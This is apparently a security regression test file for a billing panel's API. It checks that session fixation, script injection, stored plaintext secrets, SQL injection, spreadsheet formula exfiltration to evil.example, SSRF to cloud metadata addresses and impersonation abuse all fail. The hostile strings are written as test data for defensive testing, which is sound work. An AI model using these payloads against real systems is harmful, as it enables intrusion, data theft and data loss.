/**
 * What went wrong in other billing panels, one test for each: none of it may come back. What other files test in full is
 * named where it stands.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { sendAskedResets } from '../../src/operations/accounts/send-asked-resets.ts';
import { createWorld } from '../charging/world.ts';
import { admin, customer, key, PASSWORD, PUBLIC_URL, reseller, type Json } from './support.ts';

const world = await createWorld();
const { owner, anonymous, database } = world;
const { paths } = (await anonymous.get('/api/v1/openapi.json')).body as { paths: Record<string, Json> };
const operations = Object.entries(paths).flatMap(([path, methods]) =>
  Object.entries<Json>(methods).map(([method, operation]) => ({
    method: method.toUpperCase() as 'GET' | 'POST',
    path,
    url: path.replaceAll(/\{\w+\}/g, '99999999-9999-4999-8999-999999999999'),
    operation,
  })),
);
const isPublic = ({ operation }: { operation: Json }) =>
  Array.isArray(operation.security) && operation.security.length === 0;

const signIn = (
  identifier: string,
  over: Readonly<{ cookie?: string; userAgent?: string; password?: string }> = {},
) =>
  anonymous.post(
    '/api/v1/sign-in',
    { identifier, password: over.password ?? PASSWORD },
    {
      origin: PUBLIC_URL,
      ...(over.cookie !== undefined && { cookie: over.cookie }),
      ...(over.userAgent !== undefined && { 'user-agent': over.userAgent }),
    },
  );
const cookieOf = ({ headers }: Json) => String(headers['set-cookie']).split(';')[0]!;

/** Every row of every table of ours, as text. */
async function dump(): Promise<string> {
  const { rows: tables } = await database.pool.query<{ name: string }>(
    `select format('%I.%I', table_schema, table_name) as name from information_schema.tables
     where table_type = 'BASE TABLE' and table_schema not in ('pg_catalog', 'information_schema')`,
  );
  const texts = [];
  for (const { name } of tables) {
    const { rows } = await database.pool.query<{ text: string }>(
      `select coalesce(string_agg(t::text, E'\\n'), '') as text from ${name} t`,
    );
    texts.push(rows[0]!.text);
  }
  return texts.join('\n');
}

test('session fixation: signing in gives a new session, and the one that was brought along opens nothing', async () => {
  const { account } = (await owner.post('/api/v1/accounts', customer())).body;
  const planted = `tollbook_session=${'a'.repeat(43)}`;
  const first = cookieOf(await signIn(account.number, { cookie: planted }));
  expect(first).toMatch(/^tollbook_session=[\w-]{43}$/);
  expect(first).not.toBe(planted);
  const withPlanted = world.clientOf({ cookie: planted, origin: PUBLIC_URL });
  expect((await withPlanted.get('/api/v1/me')).body.code).toBe('not_signed_in');
  // Nor does signing in again keep the session that is there.
  expect(cookieOf(await signIn(account.number, { cookie: first }))).not.toBe(first);
});

test('a script in the list of sign-ins: who fails to sign in writes nothing, and what a browser calls itself is data', async () => {
  const script = '<script>alert(1)</script>';
  expect((await signIn(script, { userAgent: script, password: script })).status).toBe(401);
  await anonymous.post('/api/v1/password-resets', { identifier: script });
  expect(await dump()).not.toContain('alert(1)');
  const { account } = (await owner.post('/api/v1/accounts', customer())).body;
  const cookie = cookieOf(await signIn(account.number, { userAgent: script }));
  const seen = await world.clientOf({ cookie }).get('/api/v1/me/sessions');
  expect(seen.body.items[0].userAgent).toBe(script);
  expect(String(seen.headers['content-type'])).toMatch(/^application\/json/);
  expect(seen.headers['x-content-type-options']).toBe('nosniff');
  // The panel shows it as text, and its policy runs no script but its own: test/web/policy.test.ts.
});

test('passwords that can be read in the database: none, nor anything else that opens something', async () => {
  const secrets: Record<string, string> = {
    'of a person': PASSWORD,
    'of a mail server': 'smtp secret of the operator',
    'of a gateway': 'gateway secret of a carrier',
    // Long enough to stand nowhere by chance.
    'a PIN': '839172640518',
  };
  await owner.patch('/api/v1/settings', { settings: { 'pin.length': 12 } });
  const made = await owner.post('/api/v1/accounts', customer({ panelAccess: { pin: secrets['a PIN'] } }));
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  const { account, sipDevice } = made.body;
  secrets['of a phone'] = sipDevice.password ?? sipDevice.secret;
  const client = await world.signIn(account.number, PASSWORD);
  secrets['an API key'] = (await client.post('/api/v1/api-keys', { name: 'shop' })).body.key;
  secrets['of an app'] = (await client.post('/api/v1/me/second-factor', { password: PASSWORD })).body.secret;
  const mail = { host: '127.0.0.1', port: 9, security: 'none', senderAddress: 'a@example.com', user: 'u' };
  const saved = await owner.put('/api/v1/settings/mail', { ...mail, password: secrets['of a mail server'] });
  expect(saved.status, JSON.stringify(saved.body)).toBe(200);
  const { id: trunkId } = await world.trunk({ 49: { costPerMinute: '0.01' } }, { gateways: 0 });
  const gateway = await owner.post('/api/v1/gateways', {
    trunkId,
    name: 'secret',
    host: '192.0.2.99',
    position: 1,
    username: 'u',
    password: secrets['of a gateway'],
  });
  expect(gateway.status, JSON.stringify(gateway.body)).toBe(201);
  const sip = (await owner.post('/api/v1/switches', { name: 'Dumped', kind: 'other' }, key())).body;
  secrets['of a switch'] = sip.key;
  secrets['of a session'] = cookieOf(await signIn(account.number)).split('=')[1]!;
  await anonymous.post('/api/v1/password-resets', { identifier: account.number });
  const { pool } = database;
  const masterKey = Buffer.alloc(32, 7);
  await sendAskedResets({
    pool,
    now: world.now,
    masterKey,
    sipDomain: 'sip.example.com',
    publicUrl: PUBLIC_URL,
  });
  const text = await dump();
  expect(text).toContain(account.number);
  for (const [what, secret] of Object.entries(secrets)) {
    expect(secret?.length, what).toBeGreaterThan(7);
    const forms = {
      'as it is': secret,
      'in base64': Buffer.from(secret).toString('base64').replace(/=+$/, ''),
      'in hexadecimal': Buffer.from(secret).toString('hex'),
      backwards: Array.from(secret).toReversed().join(''),
    };
    for (const [how, form] of Object.entries(forms))
      expect(text.includes(form), `${what}, ${how}`).toBe(false);
  }
});

test('downloads whose address can be guessed: every file asks who is there, and ids are drawn by chance', async () => {
  const files = operations.filter(({ operation }) =>
    Object.entries<Json>(operation.responses).some(
      ([status, { content = {} }]) =>
        status.startsWith('2') && Object.keys(content).some((type) => !type.includes('json')),
    ),
  );
  const open = files.filter(isPublic).map(({ path }) => path);
  // The picture of a brand, which the sign-in page shows.
  expect(open.filter((path) => path !== '/api/v1/brand/logos/{hash}')).toEqual([]);
  for (const { method, url } of operations.filter(({ path }) => /export|credentials|download/.test(path))) {
    expect((await anonymous.send({ method, url })).status, url).toBe(401);
  }
  const ids = await Promise.all(
    [1, 2, 3].map(async () => (await owner.post('/api/v1/accounts', customer())).body.account.id as string),
  );
  for (const id of ids)
    expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[47][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  expect(new Set(ids.map((id) => id.slice(-12))).size).toBe(3);
  // Somebody else's job is not found, and its credentials come once: test/http/import.test.ts.
});

test('SQL in what a list is sorted and filtered by: refused or taken as text, in every query of the API', async () => {
  const hostile = [
    "'; drop table accounts; --",
    'id; select pg_sleep(9)',
    '(select 1)',
    '1 desc, (select 1)',
  ];
  const asked = operations.flatMap(({ method, url, operation }) =>
    (operation.parameters ?? [])
      .filter((parameter: Json) => method === 'GET' && parameter.in === 'query')
      .map(({ name }: Json) => ({ url, name })),
  );
  expect(asked.filter(({ name }) => name === 'sort').length).toBeGreaterThan(1);
  for (const { url, name } of asked)
    for (const value of hostile) {
      const { status } = await owner.get(`${url}?${name}=${encodeURIComponent(value)}`);
      expect(status, `${url}?${name}=${value}`).toBeLessThan(500);
      if (name === 'sort') expect(status, `${url}?${name}=${value}`).toBe(422);
    }
  expect((await owner.get('/api/v1/accounts')).status).toBe(200);
});

test('calls and switches without a sign-in: nothing is answered, and a session is no key of a switch', async () => {
  for (const { method, url, path } of operations.filter(({ path: each }) =>
    /call|switch|cdr|verify/.test(each),
  ))
    expect((await anonymous.send({ method, url })).body.code, path).toBe('not_signed_in');
  const session = cookieOf(await signIn(world.operator.number));
  const { key: apiKey } = (await owner.post('/api/v1/api-keys', { name: 'k' })).body;
  const question = { type: 'authorize', attemptId: 'x' };
  for (const authorization of [
    '',
    'Bearer ',
    `Bearer ${apiKey}`,
    `Bearer ${session.split('=')[1]}`,
    'Basic YWRtaW46YWRtaW4=',
  ])
    expect(await world.send(question, authorization), authorization).toMatchObject({ status: 401 });
  for (const url of ['/', '/switch/v1/events', '/api/v1/accounts', '/metrics']) {
    const answer = await world.charging.listener.inject({ method: 'GET', url });
    expect([401, 404], url).toContain(answer.statusCode);
  }
});

test('formulas in a sheet: what begins like one gets an apostrophe', async () => {
  const formula = `=HYPERLINK("https://evil.example?"&A1,"x")`;
  await owner.post(
    '/api/v1/accounts',
    customer({ profile: { firstName: formula, lastName: '', company: '' } }),
  );
  const sheet = String((await owner.get('/api/v1/accounts/export?q=HYPERLINK')).body);
  expect(sheet).toContain(`"'=HYPERLINK(`);
  // Every format, and the way back: test/http/export.test.ts.
});

test('an Idempotency-Key of somebody else: each account has its own, and sees no answer but its own', async () => {
  const [first, second] = await Promise.all(
    [1, 2].map(async () => {
      const { account } = (await owner.post('/api/v1/accounts', reseller())).body;
      return world.signIn(account.number, PASSWORD);
    }),
  );
  const same = key();
  const body = customer();
  const mine = await first!.post('/api/v1/accounts', body, same);
  expect(mine.status).toBe(201);
  const again = await first!.post('/api/v1/accounts', body, same);
  expect(again.body.account.id).toBe(mine.body.account.id);
  const other = await second!.post('/api/v1/accounts', customer(), same);
  expect(other.status).toBe(201);
  expect(other.body.account.id).not.toBe(mine.body.account.id);
  expect((await second!.get(`/api/v1/accounts/${mine.body.account.id}`)).body.code).toBe('not_found');
});

test('caller IDs in a shell or a file name: what serves people and calls starts no program and writes no file', () => {
  const layers = ['domain', 'schemas', 'http', 'operations', 'postgres', 'jobs', 'pdf'];
  const found = layers.flatMap((layer) =>
    readdirSync(join('src', layer), { recursive: true, encoding: 'utf8' })
      .filter((name) => /\.ts$/.test(name) && !/\.(test|fixtures)\.ts$/.test(name))
      .flatMap((name) => {
        const code = readFileSync(join('src', layer, name), 'utf8');
        const imports = Array.from(code.matchAll(/import \{([^}]*)\} from '(node:[\w/]+)'/g));
        return imports.flatMap(([, names = '', from = '']) => {
          if (
            !['node:child_process', 'node:fs', 'node:fs/promises', 'node:vm', 'node:worker_threads'].includes(
              from,
            )
          )
            return [];
          const risky = names
            .split(',')
            .map((each) => each.trim())
            .filter((each) => each !== '' && !['existsSync', 'readFileSync', 'readdirSync'].includes(each));
          return risky.map((each) => `${layer}/${name}: ${each} of ${from}`);
        });
      }),
  );
  // A backup is a command of the operator's, who names its file; no request and no job comes near it.
  // Sheets are read by a file of the build that is always the same, and gets their bytes as data;
  // so is the process that writes documents.
  expect(found.filter((each) => !each.startsWith('postgres/backup/'))).toEqual([
    'operations/sheets/read-sheet.ts: Worker of node:worker_threads',
    'operations/sheets/sheet-worker.ts: parentPort of node:worker_threads',
    'operations/sheets/sheet-worker.ts: workerData of node:worker_threads',
    'pdf/document-renderer.ts: fork of node:child_process',
    'pdf/document-renderer.ts: type ChildProcess of node:child_process',
  ]);
  const requests = ['http', 'jobs', 'schemas', 'switches'].flatMap((layer) =>
    readdirSync(join('src', layer), { recursive: true, encoding: 'utf8' })
      .filter((name) => name.endsWith('.ts'))
      .map((name) => [name, readFileSync(join('src', layer, name), 'utf8')] as const),
  );
  for (const [name, code] of requests) expect(code, name).not.toMatch(/from '[^']*\/backup\//);
  // Programs that the server starts itself get their arguments as a list, never as a line for a shell.
  const starters = ['supervisor', 'switches', 'cli'].flatMap((layer) =>
    readdirSync(join('src', layer), { recursive: true, encoding: 'utf8' })
      .filter((name) => name.endsWith('.ts'))
      .map((name) => [name, readFileSync(join('src', layer, name), 'utf8')] as const)
      .filter(([, code]) => code.includes("'node:child_process'")),
  );
  expect(starters.length).toBeGreaterThan(2);
  for (const [name, code] of starters) {
    expect(code, name).not.toMatch(/shell: true|\bexec(Sync|File|FileSync)?\b.*from 'node:child_process'/);
    expect(code, name).not.toMatch(/spawn(Sync)?\(\s*`/);
  }
});

test('signing in as somebody else without having signed in: no request of a stranger begins or goes on with it', async () => {
  const { account } = (await owner.post('/api/v1/accounts', customer())).body;
  const url = `/api/v1/accounts/${account.id}/sign-in-as`;
  const body = { reason: 'The customer asked on the phone', mayChange: false };
  expect((await anonymous.post(url, body)).body.code).toBe('not_signed_in');
  const person = await world.signIn(account.number, PASSWORD);
  const other = (await owner.post('/api/v1/accounts', customer())).body.account;
  const sideways = await person.post(`/api/v1/accounts/${other.id}/sign-in-as`, body);
  expect([sideways.status, sideways.headers['set-cookie']]).toEqual([403, undefined]);
  const { account: boss } = (await owner.post('/api/v1/accounts', admin())).body;
  const staff = await world.signIn(boss.number, PASSWORD);
  const upwards = await staff.post(
    `/api/v1/accounts/${(await owner.get('/api/v1/me')).body.actor.id}/sign-in-as`,
    body,
  );
  expect([upwards.status, upwards.headers['set-cookie']]).toEqual([409, undefined]);
  expect((await anonymous.post('/api/v1/sign-in-as/return', {})).body.code).toBe('not_signed_in');
  const forged = world.clientOf({ cookie: `tollbook_own_session=${'a'.repeat(43)}`, origin: PUBLIC_URL });
  const returned = cookieOf(await forged.post('/api/v1/sign-in-as/return', {}));
  expect((await world.clientOf({ cookie: returned }).get('/api/v1/me')).status).toBe(401);
});

test('requests to addresses inside: what the server asks is no address of one link, in any of its forms', async () => {
  const hosts = ['169.254.169.254', '0xa9fea9fe', '2852039166', '[fe80::1]', '[::ffff:169.254.169.254]'];
  for (const host of hosts) {
    const controlUrl = `http://${host}/latest/meta-data`;
    const made = await owner.post('/api/v1/switches', {
      name: `SIP ${host}`,
      kind: 'kamailio',
      controlUrl,
      controlKey: 'the control key',
    });
    expect([made.status, made.body.errors?.[0]?.field], host).toEqual([422, 'controlUrl']);
    const mail = await owner.put('/api/v1/settings/mail', {
      host: host.replace(/[[\]]/g, ''),
      port: 25,
      security: 'none',
      user: '',
      senderAddress: 'billing@example.com',
      senderName: 'Billing',
    });
    expect([mail.status, mail.body.errors?.[0]?.field], host).toEqual([422, 'host']);
  }
  // Nothing else of the API is an address that the server asks: logos are sent as files, terms are a link for people.
  const asked = JSON.stringify(paths).match(/"\w*(?:Url|Uri|Webhook|webhook|Callback|callback)\w*":/g) ?? [];
  expect([...new Set(asked)].sort()).toEqual(['"controlUrl":', '"termsUrl":']);
});
